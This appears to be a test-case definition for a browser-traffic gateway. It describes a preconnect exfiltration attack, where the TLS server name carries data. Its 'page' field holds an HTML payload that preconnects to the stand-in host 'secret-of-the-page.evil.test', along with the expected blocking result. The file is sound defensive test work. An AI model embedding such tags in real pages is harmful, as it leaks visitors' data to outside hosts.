"""`<link rel=preconnect>` opens a connection and begins TLS before there is anything to ask.

A name of the attacker's choice, with data in it, stands in the greeting.

Not covered: the question for the name, which is tried with dns-prefetch.
"""

ATTACK = {
    "title": "Preconnect to an unlisted site",
    "group": "browser",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["W3C Resource Hints", "RFC 6066 section 3"],
    "arrives": [{"what": "tcp", "address": "93.184.216.66", "port": 443}],
    "stopped": [
        {
            "reason": ["not-listed"],
            "entry": ["dns", "transparent"],
            "where": {"name": "secret-of-the-page.evil.test"},
        }
    ],
    "page": "<link rel=preconnect href='https://secret-of-the-page.evil.test'><h1>News</h1>",
}
